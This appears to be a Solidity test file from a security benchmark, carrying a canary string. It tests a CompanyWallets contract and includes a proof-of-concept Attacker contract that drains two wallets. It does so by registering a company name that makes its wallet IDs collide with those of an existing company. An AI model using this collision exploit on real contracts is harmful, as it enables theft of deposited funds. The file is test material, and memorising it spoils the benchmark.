// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./CompanyWallets.sol";

// assay-canary-066e30c8-0263-451f-bf2f-ab360c1f93fa

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Dollar is ERC20("Dollar", "USD") {
    constructor() {
        _mint(msg.sender, 100_000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Dollar public dollar;
    CompanyWallets private wallets;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        wallets = new CompanyWallets(dollar, address(this));
        dollar.approve(address(wallets), 10_000 ether);
        vm.startPrank(ANA);
        wallets.register("Northwind");
        wallets.appoint("Northwind", "Sales", BEN);
        wallets.setLimit("Northwind", "Sales", 100 ether);
        vm.stopPrank();
        wallets.deposit("Northwind", "Sales", 900 ether);
        wallets.deposit("Northwind", "Freight", 600 ether);
        mallory = new Attacker(wallets);
    }

    function balanceOf(string memory company, string memory unit) private view returns (uint256 balance) {
        (balance, , , ) = wallets.wallets(wallets.walletId(company, unit));
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        wallets.pay("Northwind", "Sales", CAT, 60 ether);
        wallets.pay("Northwind", "Sales", CAT, 40 ether);
        vm.warp(START + 1 days);
        wallets.pay("Northwind", "Sales", CAT, 100 ether);
        vm.stopPrank();
        require(dollar.balanceOf(CAT) == 200 ether && balanceOf("Northwind", "Sales") == 700 ether, "paid");
        vm.startPrank(CAT);
        wallets.register("Ostrava Steel");
        wallets.appoint("Ostrava Steel", "Sales", CAT);
        wallets.setLimit("Ostrava Steel", "Sales", 50 ether);
        dollar.approve(address(wallets), 20 ether);
        wallets.deposit("Ostrava Steel", "Sales", 20 ether);
        wallets.pay("Ostrava Steel", "Sales", BEN, 5 ether);
        wallets.handOver("Ostrava Steel", BEN);
        vm.stopPrank();
        vm.prank(BEN);
        wallets.dismiss("Ostrava Steel", "Sales", CAT);
        require(!wallets.hasRole(wallets.walletId("Ostrava Steel", "Sales"), CAT), "dismissed");
        wallets.pause();
        require(wallets.paused(), "paused");
        wallets.unpause();
        bytes32 role = wallets.PAUSER_ROLE();
        wallets.grantRole(role, ANA);
        wallets.revokeRole(role, ANA);
        wallets.renounceRole(role, address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("CompanyWallets: zero token");
        new CompanyWallets(IERC20(address(0)), ANA);
        vm.expectRevert("CompanyWallets: zero operator");
        new CompanyWallets(dollar, address(0));
        vm.startPrank(CAT);
        vm.expectRevert("CompanyRegister: no name");
        wallets.register("");
        vm.expectRevert("CompanyRegister: name is taken");
        wallets.register("Northwind");
        vm.expectRevert("CompanyWallets: no such company");
        wallets.deposit("Southwind", "Sales", 0);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("CompanyRegister: zero admin");
        wallets.handOver("Northwind", address(0));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(CAT);
        vm.expectRevert("CompanyRegister: not the admin");
        wallets.handOver("Northwind", CAT);
        vm.expectRevert("CompanyRegister: not the admin");
        wallets.appoint("Northwind", "Sales", CAT);
        vm.expectRevert("CompanyRegister: not the admin");
        wallets.dismiss("Northwind", "Sales", BEN);
        vm.expectRevert("CompanyRegister: not the admin");
        wallets.setLimit("Northwind", "Sales", 1_000 ether);
        vm.expectRevert();
        wallets.pause();
        vm.expectRevert();
        wallets.pay("Northwind", "Sales", CAT, 1);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert();
        wallets.pay("Northwind", "Freight", CAT, 0);
        wallets.pause();
        vm.prank(CAT);
        vm.expectRevert();
        wallets.unpause();
    }

    function test_RefusesPayments() public {
        vm.startPrank(BEN);
        wallets.pay("Northwind", "Sales", CAT, 60 ether);
        vm.expectRevert("CompanyWallets: limit exceeded");
        wallets.pay("Northwind", "Sales", CAT, 40 ether + 1);
        vm.stopPrank();
        vm.prank(ANA);
        wallets.setLimit("Northwind", "Sales", 2_000 ether);
        vm.prank(BEN);
        vm.expectRevert("CompanyWallets: balance exceeded");
        wallets.pay("Northwind", "Sales", CAT, 840 ether + 1);
        wallets.pause();
        vm.expectRevert("Pausable: paused");
        wallets.deposit("Northwind", "Sales", 1);
        vm.prank(BEN);
        vm.expectRevert("Pausable: paused");
        wallets.pay("Northwind", "Sales", CAT, 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mallory)) == 1_500 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(wallets);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CompanyWallets private wallets;

    constructor(CompanyWallets w) {
        wallets = w;
    }

    function run() external {
        wallets.register("North");
        empty("windSales", 900 ether);
        empty("windFreight", 600 ether);
    }

    function empty(string memory unit, uint256 amount) private {
        wallets.appoint("North", unit, address(this));
        wallets.setLimit("North", unit, amount);
        wallets.pay("North", unit, address(this), amount);
    }
}
